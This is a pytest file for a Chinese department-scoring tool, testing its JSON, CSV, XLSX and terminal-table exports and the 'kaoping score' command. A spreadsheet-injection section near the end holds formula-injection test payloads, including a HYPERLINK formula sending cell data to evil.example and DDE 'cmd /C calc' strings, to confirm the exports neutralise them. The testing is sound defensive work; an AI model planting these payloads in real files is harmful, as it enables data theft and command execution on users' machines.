"""Exports (DESIGN.md §6, §9): JSON, CSV, XLSX and the terminal table; ``kaoping score``."""

from __future__ import annotations

import copy
import csv
import io
import json
import subprocess
import sys
from decimal import Decimal
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from conftest import BASE

from scoring import exports
from scoring.published import Figures, dumps, figures_of, number_text
from scoring.records import read_records
from scoring.results import score as results_of

D = Decimal
KAOPING = Path(sys.executable).parent / "kaoping"

DEPARTMENT_KEYS = [
    "department", "name", "complete", "business", "public", "indicator", "leader",
    "deductions", "bonus", "total", "grade", "rank", "missing",
]  # fmt: skip
SERVICE_KEYS = [
    "contract", "name", "provider", "department", "complete", "deductions", "score",
    "share", "fee", "payable", "withheld", "notice", "missing",
]  # fmt: skip

CONTRACT = {
    "name": "机关大院绿化养护",
    "provider": "绿景园林",
    "category": "greening",
    "department": "admin",
    "from": "2026-11",
    "to": "2027-06",
    "monthly_fee": 48000.00,
    "checklist": [
        {"id": "lawn", "name": "草坪", "max": 50},
        {"id": "log", "name": "台账", "max": 50},
    ],
    "payment": [{"min": 95, "share": 1}, {"min": 90, "share": 0.98}, {"min": 0, "share": 0.9}],
}
SERVICE_NOVEMBER = {
    "assessor": "wang",
    "assessed": "2026-11-30",
    "checks": [
        {"id": "S1", "level": "office", "date": "2026-11-04", "by": ["wang", "li"],
         "item": "lawn", "description": "草坪未修剪", "points": 1.75, "evidence": ["lawn.jpg"]},
    ],
}  # fmt: skip
WITH_SERVICES = {
    "services/greening.yaml": CONTRACT,
    "2026-11/services/greening.yaml": SERVICE_NOVEMBER,
    "2026-11/evidence/lawn.jpg": b"\xff\xd8\xff\xe0 not really a photo",
}


def score(records: Any) -> Figures:
    """The published figures of full results (the one scoring path)."""
    return figures_of(results_of(records))


def run(*args: str, root: Path) -> subprocess.CompletedProcess[bytes]:
    return subprocess.run(
        [str(KAOPING), *args, "--records", str(root)],
        capture_output=True,
        cwd=root.parent,
        timeout=120,
    )


# ---------------------------------------------------------------- numbers and JSON


@pytest.mark.parametrize(
    ("value", "text"),
    [
        (D("19"), "19"),
        (D("19.00"), "19"),
        (D("19.50"), "19.5"),
        (D("94.73"), "94.73"),
        (D("0.00"), "0"),
        (D("-0.00"), "0"),
        (D("1E+2"), "100"),
        (D("48000.00"), "48000"),
        (D("0.975"), "0.975"),
        (7, "7"),
    ],
)
def test_number_text(value, text):
    assert number_text(value) == text


def test_dumps_pretty_and_canonical():
    value = {"b": [D("1.50"), None, True], "a": "行政科", "c": {}, "d": []}
    assert dumps(value, canonical=True) == '{"a":"行政科","b":[1.5,null,true],"c":{},"d":[]}'
    assert dumps(value) == (
        '{\n  "b": [\n    1.5,\n    null,\n    true\n  ],\n  "a": "行政科",\n  "c": {},\n  "d": []\n}'
    )
    assert json.loads(dumps(value)) == json.loads(dumps(value, canonical=True))


def test_json_shape_and_order(make_records):
    results = score(read_records(make_records(WITH_SERVICES)).records)
    text = exports.to_json(results)
    data = json.loads(text)
    assert list(data) == ["unit", "months", "years"]
    (month,) = data["months"]
    assert list(month)[:3] == ["month", "status", "departments"]
    assert [d["department"] for d in month["departments"]] == ["admin", "security"]
    admin = month["departments"][0]
    assert list(admin)[: len(DEPARTMENT_KEYS)] == DEPARTMENT_KEYS
    # the figures of BASE (tests/test_results.py shows the arithmetic)
    assert admin == {
        "department": "admin", "name": "行政科", "complete": True, "business": 78,
        "public": 20, "indicator": 98, "leader": 91, "deductions": 0, "bonus": 0,
        "total": 95.9, "grade": "good", "rank": 2, "missing": [], "streak": 0,
    }  # fmt: skip
    # numbers as written: no trailing zeros, no exponent, never quoted
    assert '"leader": 91,' in text and '"total": 95.9,' in text and '"total": 96.15,' in text
    (service,) = month["services"]
    assert list(service) == SERVICE_KEYS
    # 1.75 × office factor 2 = 3.5; score 96.5 -> share 1; payable 48000, withheld 0
    assert service == {
        "contract": "greening", "name": "机关大院绿化养护", "provider": "绿景园林",
        "department": "admin", "complete": True, "deductions": 3.5, "score": 96.5,
        "share": 1, "fee": 48000, "payable": 48000, "withheld": 0, "notice": False,
        "missing": [],
    }  # fmt: skip
    (year,) = data["years"]
    assert list(year) == ["year", "departments", "services"]
    assert list(year["departments"][0])[:5] == ["department", "months", "total", "grade", "rank"]
    assert year["services"] == [
        {"contract": "greening", "months": 1, "score": 96.5, "payable": 48000, "withheld": 0,
         "name": "机关大院绿化养护"},
    ]  # fmt: skip
    assert text.endswith("}\n") and "\\u" not in text


def test_incomplete_department_in_json(make_records):
    root = make_records(
        {
            "2026-11/month.yaml": {"status": "assessing", "overseers": ["chen", "zhao"]},
            "2026-11/assessments/admin.yaml": None,
            "2026-11/ratings/liu.yaml": None,
        }
    )
    data = json.loads(exports.to_json(score(read_records(root).records)))
    admin = data["months"][0]["departments"][0]
    assert admin["complete"] is False
    assert admin["missing"] == ["2026-11/assessments/admin.yaml", "2026-11/ratings/liu.yaml"]
    for key in ("business", "public", "indicator", "leader", "total", "grade", "rank"):
        assert admin[key] is None
    assert (admin["deductions"], admin["bonus"]) == (0, 0)


# ---------------------------------------------------------------- CSV, XLSX, table


def test_csv_tables(make_records):
    root = make_records(
        dict(
            WITH_SERVICES,
            **{"2026-11/month.yaml": {"status": "open"}, "2026-11/targets/security.yaml": None},
        )
    )
    results = score(read_records(root).records)
    months = exports.to_csv(results).splitlines()
    assert months[0] == "month,status," + ",".join(DEPARTMENT_KEYS) + ",streak"
    # admin: the only complete department, rank 1; excellent's quota floor(0.5 × 1) = 0
    assert months[1] == "2026-11,open,admin,行政科,true,78,20,98,91,0,0,95.9,good,1,,0"
    # null as an empty cell
    assert months[2] == (
        "2026-11,open,security,保卫处,false,,,,89.5,0,0,,,,2026-11/targets/security.yaml,0"
    )
    services = exports.to_csv(results, "services").splitlines()
    assert services[0] == "month,status," + ",".join(SERVICE_KEYS)
    assert (
        services[1]
        == "2026-11,open,greening,机关大院绿化养护,绿景园林,admin,true,3.5,96.5,1,48000,48000,0,false,"
    )
    years = exports.to_csv(results, "years").splitlines()
    assert years[0] == "year,department,months,total,grade,rank,name"
    assert years[1] == "2026,admin,0,,,,行政科"  # an open month counts toward no year


def test_csv_missing_joined(make_records):
    root = make_records({"2026-11/month.yaml": {"status": "open"}, "2026-11/ratings/liu.yaml": None,
                         "2026-11/assessments/security.yaml": None})  # fmt: skip
    rows = exports.to_csv(score(read_records(root).records)).splitlines()
    assert rows[2].endswith(",2026-11/assessments/security.yaml;2026-11/ratings/liu.yaml,0")


def test_xlsx_sheets_and_values(make_records):
    """Headers and values in the organisation's language; name then id on every sheet."""
    results = score(read_records(make_records(WITH_SERVICES)).records)
    book = openpyxl.load_workbook(io.BytesIO(exports.to_xlsx(results)))
    assert book.sheetnames == ["2026-11", "年度", "社会化服务"]
    rows = list(book["2026-11"].iter_rows(values_only=True))
    assert rows[0] == (
        "名称", "科室编号", "状态", "数据完整", "业务指标", "公共指标", "指标得分", "领导评价",
        "扣分", "加分", "总分", "等次", "名次", "缺少的文件", "连续无扣分月数",
    )  # fmt: skip
    assert rows[1] == (
        "行政科", "admin", "已公布", "是", 78, 20, 98, 91, 0, 0, 95.9, "良好", 2, None, 0,
    )  # fmt: skip
    years = list(book["年度"].iter_rows(values_only=True))
    assert years[0] == ("名称", "科室编号", "年度", "计入月数", "总分", "等次", "名次")
    assert years[1] == ("行政科", "admin", 2026, 1, 95.9, "良好", 2)
    services = list(book["社会化服务"].iter_rows(values_only=True))
    assert services[0] == (
        "名称", "合同编号", "月份", "状态", "服务商", "监管科室", "数据完整", "扣分", "得分",
        "支付比例", "月服务费", "应付金额", "扣减金额", "整改通知", "缺少的文件",
    )  # fmt: skip
    assert services[1] == (
        "机关大院绿化养护", "greening", "2026-11", "已公布", "绿景园林", "行政科", "是", 3.5,
        96.5, 1, 48000, 48000, 0, "否", None,
    )  # fmt: skip


def test_xlsx_is_laid_out_for_people(make_records):
    """Header row frozen, bold and filtered; number formats; widths that fit Chinese."""
    files = dict(WITH_SERVICES)
    files["services/greening.yaml"] = dict(
        CONTRACT,
        payment=[{"min": 97, "share": 1}, {"min": 90, "share": 0.975}, {"min": 0, "share": 0.9}],
    )
    results = score(read_records(make_records(files)).records)
    book = openpyxl.load_workbook(io.BytesIO(exports.to_xlsx(results)))
    for sheet in book:
        assert sheet.freeze_panes == "A2", sheet.title
        assert sheet.auto_filter.ref == sheet.dimensions
        assert all(cell.font.b for cell in sheet[1])
        assert sheet["A1"].value == "名称"  # names in the same place on every sheet
    month = book["2026-11"]
    formats = {month.cell(1, c).value: month.cell(2, c).number_format for c in range(1, 16)}
    assert formats["业务指标"] == formats["总分"] == formats["领导评价"] == "0.00"
    assert formats["名次"] == formats["连续无扣分月数"] == "0"
    assert formats["名称"] == formats["等次"] == "General"
    services = book["社会化服务"]
    header = [cell.value for cell in services[1]]
    row = {name: services.cell(2, index) for index, name in enumerate(header, start=1)}
    assert row["月服务费"].number_format == '#,##0.00"元"'
    assert row["应付金额"].number_format == row["扣减金额"].number_format == '#,##0.00"元"'
    assert (row["应付金额"].value, row["扣减金额"].value) == (46800, 1200)
    assert (row["支付比例"].value, row["支付比例"].number_format) == (0.975, "0.0#%")
    assert row["得分"].number_format == row["扣分"].number_format == "0.00"
    widths = {
        name: services.column_dimensions[chr(64 + i)].width for i, name in enumerate(header, 1)
    }
    # a Chinese character takes two columns: 机关大院绿化养护 is 16 wide, 48,000.00元 11
    assert widths["名称"] == 18 and widths["月服务费"] == 13 and widths["合同编号"] == 10
    years = book["年度"]
    assert years["C2"].number_format == years["D2"].number_format == "0"


def test_xlsx_in_english(make_records):
    root = make_records(dict(WITH_SERVICES, **{"org.yaml": dict(BASE["org.yaml"], language="en")}))
    book = openpyxl.load_workbook(io.BytesIO(exports.to_xlsx(score(read_records(root).records))))
    assert book.sheetnames == ["2026-11", "years", "services"]
    rows = list(book["2026-11"].iter_rows(values_only=True))
    assert rows[0][:4] == ("Name", "Department", "Status", "Complete")
    assert rows[1][:4] == ("行政科", "admin", "published", "yes")
    assert rows[1][11] == "良好"  # the organisation's own grade name
    services = book["services"]
    assert services["K2"].number_format == '#,##0.00" yuan"'


def test_people_csv(make_records):
    """downloads/results.csv: a byte-order mark, the organisation's headers and words."""
    root = make_records(
        dict(
            WITH_SERVICES,
            **{"2026-11/month.yaml": {"status": "open"}, "2026-11/targets/security.yaml": None},
        )
    )
    data = exports.to_people_csv(score(read_records(root).records))
    assert data.startswith(b"\xef\xbb\xbf")
    lines = data[3:].decode("utf-8").split("\r\n")
    assert lines[0] == (
        "月份,状态,科室编号,名称,数据完整,业务指标,公共指标,指标得分,领导评价,扣分,加分,"
        "总分,等次,名次,缺少的文件,连续无扣分月数"
    )
    assert lines[1] == "2026-11,填报中,admin,行政科,是,78,20,98,91,0,0,95.9,良好,1,,0"
    assert lines[2] == (
        "2026-11,填报中,security,保卫处,否,,,,89.5,0,0,,,,2026-11/targets/security.yaml,0"
    )
    assert lines[3:] == [""]


def test_people_csv_in_english_joins_missing_files(make_records):
    org = dict(BASE["org.yaml"], language="en")
    root = make_records({"org.yaml": org, "2026-11/month.yaml": {"status": "open"},
                         "2026-11/ratings/liu.yaml": None,
                         "2026-11/assessments/security.yaml": None})  # fmt: skip
    rows = list(
        csv.DictReader(
            io.StringIO(
                exports.to_people_csv(score(read_records(root).records)).decode("utf-8-sig")
            )
        )
    )
    assert list(rows[0])[:5] == ["Month", "Status", "Department", "Name", "Complete"]
    assert (rows[1]["Status"], rows[1]["Complete"]) == ("open", "no")
    assert rows[1]["Missing files"] == (
        "2026-11/assessments/security.yaml, 2026-11/ratings/liu.yaml"
    )


def test_score_csv_stays_the_programs_form(make_records):
    """score --format csv: JSON keys, ids, true/false, no byte-order mark."""
    done = run("score", "--format", "csv", root=make_records(WITH_SERVICES))
    assert done.stdout.startswith(b"month,status,department,name,complete,")
    assert b"\xef\xbb\xbf" not in done.stdout and b"\r\n" not in done.stdout
    assert b",published,admin," in done.stdout and b",true," in done.stdout


def test_display_width_counts_east_asian_characters_twice():
    assert exports.display_width("行政科") == 6
    assert exports.display_width("abc") == 3
    assert exports.display_width("Ａ1") == 3  # fullwidth A


def test_align_is_cjk_aware():
    text = exports.align(["名称", "总分"], [["行政科", "95.9"], ["IT", "100"]], [False, True])
    assert text.splitlines() == [
        "名称    总分",
        "------  ----",
        "行政科  95.9",
        "IT       100",
    ]


def test_terminal_table(make_records):
    results = score(read_records(make_records(WITH_SERVICES)).records)
    text = exports.to_table(results)
    assert "测试局" in text and "2026年度" in text and "社会化服务" in text
    lines = text.splitlines()
    header = next(line for line in lines if line.startswith("名称"))
    admin = next(line for line in lines if line.startswith("行政科"))
    # the total column ends at the same display column in the header and the row
    assert exports.display_width(header[: header.index("总分") + 2]) == exports.display_width(
        admin[: admin.index("95.9") + 4]
    )
    assert exports.to_table(results, "years").count("2026-11") == 0


# ---------------------------------------------------------------- kaoping score


def test_score_json_is_deterministic_and_equals_the_library(make_records):
    root = make_records(WITH_SERVICES)
    first, second = (
        run("score", "--format", "json", root=root),
        run("score", "--format", "json", root=root),
    )
    assert first.returncode == 0, first.stderr.decode()
    assert first.stdout == second.stdout
    expected = exports.to_json(score(read_records(root).records)).encode("utf-8")
    assert first.stdout == expected


@pytest.mark.parametrize("table", ["months", "years", "services"])
def test_score_csv(make_records, table):
    root = make_records(WITH_SERVICES)
    first = run("score", "--format", "csv", "--table", table, root=root)
    second = run("score", "--format", "csv", "--table", table, root=root)
    assert first.returncode == 0, first.stderr.decode()
    assert first.stdout == second.stdout
    assert first.stdout.decode("utf-8") == exports.to_csv(score(read_records(root).records), table)


def test_score_table_default(make_records):
    done = run("score", root=make_records())
    assert done.returncode == 0
    assert "行政科" in done.stdout.decode("utf-8")


def test_score_xlsx_needs_output(make_records, tmp_path):
    root = make_records()
    assert run("score", "--format", "xlsx", root=root).returncode == 2
    target = tmp_path / "out.xlsx"
    done = run("score", "--format", "xlsx", "--output", str(target), root=root)
    assert done.returncode == 0, done.stderr.decode()
    assert openpyxl.load_workbook(target).sheetnames == ["2026-11", "年度", "社会化服务"]


def test_score_output_file(make_records, tmp_path):
    root = make_records()
    target = tmp_path / "results.json"
    assert run("score", "--format", "json", "--output", str(target), root=root).returncode == 0
    assert target.read_bytes() == run("score", "--format", "json", root=root).stdout


# ---------------------------------------------------------------- spreadsheet injection

FORMULA_NAMES = {
    "admin": '=HYPERLINK("http://evil.example/?"&A1,"行政科")',
    "security": "+1+cmd|' /C calc'!A0",
}
FORMULA_CONTRACT = dict(CONTRACT, name="@SUM(1+1)*cmd|' /C calc'!A0", provider="-2+3+cmd|'x'!A0")


def _formula_records(make_records):
    org = copy.deepcopy(BASE["org.yaml"])
    for department in org["departments"]:
        department["name"] = FORMULA_NAMES[department["id"]]
    return make_records(
        dict(WITH_SERVICES, **{"org.yaml": org, "services/greening.yaml": FORMULA_CONTRACT})
    )


@pytest.mark.parametrize(
    ("text", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("行政科", "行政科"),
        ("a=1", "a=1"),
        ("'=1", "'=1"),
        ("", ""),
    ],
)
def test_spreadsheet_text(text, written):
    assert exports.spreadsheet_text(text) == written


def test_score_csv_neutralises_formulas(make_records):
    root = _formula_records(make_records)
    months = run("score", "--format", "csv", root=root)
    assert months.returncode == 0, months.stderr.decode()
    rows = list(csv.DictReader(io.StringIO(months.stdout.decode("utf-8"))))
    assert [row["name"] for row in rows] == [
        "'" + FORMULA_NAMES["admin"],
        "'" + FORMULA_NAMES["security"],
    ]
    assert [row["total"] for row in rows] == ["95.9", "96.15"]  # numbers stay numbers
    services = run("score", "--format", "csv", "--table", "services", root=root)
    (row,) = csv.DictReader(io.StringIO(services.stdout.decode("utf-8")))
    assert (row["name"], row["provider"]) == (
        "'" + FORMULA_CONTRACT["name"],
        "'" + FORMULA_CONTRACT["provider"],
    )
    years = run("score", "--format", "csv", "--table", "years", root=root)
    names = [row["name"] for row in csv.DictReader(io.StringIO(years.stdout.decode("utf-8")))]
    assert names == ["'" + FORMULA_NAMES["admin"], "'" + FORMULA_NAMES["security"]]


def test_score_xlsx_neutralises_formulas(make_records, tmp_path):
    root = _formula_records(make_records)
    target = tmp_path / "results.xlsx"
    done = run("score", "--format", "xlsx", "--output", str(target), root=root)
    assert done.returncode == 0, done.stderr.decode()
    book = openpyxl.load_workbook(target)
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    month = list(book["2026-11"].iter_rows(values_only=True))
    assert [row[0] for row in month[1:]] == [
        "'" + FORMULA_NAMES["admin"],
        "'" + FORMULA_NAMES["security"],
    ]
    assert [row[10] for row in month[1:]] == [95.9, 96.15]  # numbers stay numbers
    years = list(book["年度"].iter_rows(values_only=True))
    assert years[1][0] == "'" + FORMULA_NAMES["admin"]
    services = list(book["社会化服务"].iter_rows(values_only=True))
    assert (services[1][0], services[1][4]) == (
        "'" + FORMULA_CONTRACT["name"],
        "'" + FORMULA_CONTRACT["provider"],
    )
    assert services[1][5] == "'" + FORMULA_NAMES["admin"]  # the supervisor, by name


def test_people_csv_neutralises_formulas(make_records):
    figures = score(read_records(_formula_records(make_records)).records)
    rows = list(csv.DictReader(io.StringIO(exports.to_people_csv(figures).decode("utf-8-sig"))))
    assert [row["名称"] for row in rows] == [
        "'" + FORMULA_NAMES["admin"],
        "'" + FORMULA_NAMES["security"],
    ]
    assert [row["总分"] for row in rows] == ["95.9", "96.15"]


CONTENT = {path: value for path, value in BASE.items() if path.startswith("2026-11/")}


def two_years() -> dict[str, Any]:
    files: dict[str, Any] = {}
    for month, following in (("2025-12", "2026-01"), ("2026-01", "2026-02")):
        for path, value in CONTENT.items():
            files[path.replace("2026-11", month)] = value
        files[f"{month}/month.yaml"] = {
            "status": "published",
            "meeting": f"{following}-03",
            "overseers": ["chen", "zhao"] if month == "2025-12" else ["liu", "qian"],
            "absent": [],
            "published": f"{following}-05",
        }
        for sheet in ("admin", "security"):
            items = files[f"{month}/targets/{sheet}.yaml"]["items"]
            files[f"{month}/targets/{sheet}.yaml"] = {
                "items": [dict(item, deadline=f"{month}-20") for item in items]
            }
    return files


def test_score_month_and_year(make_records):
    root = make_records(two_years())
    everything = json.loads(run("score", "--format", "json", root=root).stdout)
    assert [m["month"] for m in everything["months"]] == ["2025-12", "2026-01", "2026-11"]
    assert [y["year"] for y in everything["years"]] == [2025, 2026]

    only = run("score", "--format", "json", "--month", "2026-01", root=root)
    assert only.returncode == 0, only.stderr.decode()
    data = json.loads(only.stdout)
    assert [m["month"] for m in data["months"]] == ["2026-01"] and data["years"] == []

    year = json.loads(run("score", "--format", "json", "--year", "2026", root=root).stdout)
    assert [m["month"] for m in year["months"]] == ["2026-01", "2026-11"]
    assert [y["year"] for y in year["years"]] == [2026]
    # 2026: admin (95.9 + 95.9) / 2 = 95.9 over two months
    assert year["years"][0]["departments"][0]["months"] == 2


@pytest.mark.parametrize(
    "args",
    [
        ["--month", "2026-13"],
        ["--month", "2026-10"],  # no such month folder
        ["--year", "2024"],
        ["--month", "2026-11", "--year", "2026"],
        ["--format", "pdf"],
        ["--table", "people"],
    ],
)
def test_score_usage_errors(make_records, args):
    assert run("score", *args, root=make_records()).returncode == 2


def test_score_refuses_while_validation_errors_exist(make_records):
    root = make_records({"2026-11/ratings/liu.yaml": {"scores": {"admin": 120, "security": 91}}})
    done = run("score", "--format", "json", root=root)
    assert done.returncode == 1
    assert done.stdout == b""
    assert b"records/2026-11/ratings/liu.yaml" in done.stderr


def test_score_without_records_folder(tmp_path):
    done = subprocess.run(
        [str(KAOPING), "score", "--records", str(tmp_path / "nowhere")], capture_output=True
    )
    assert done.returncode == 2
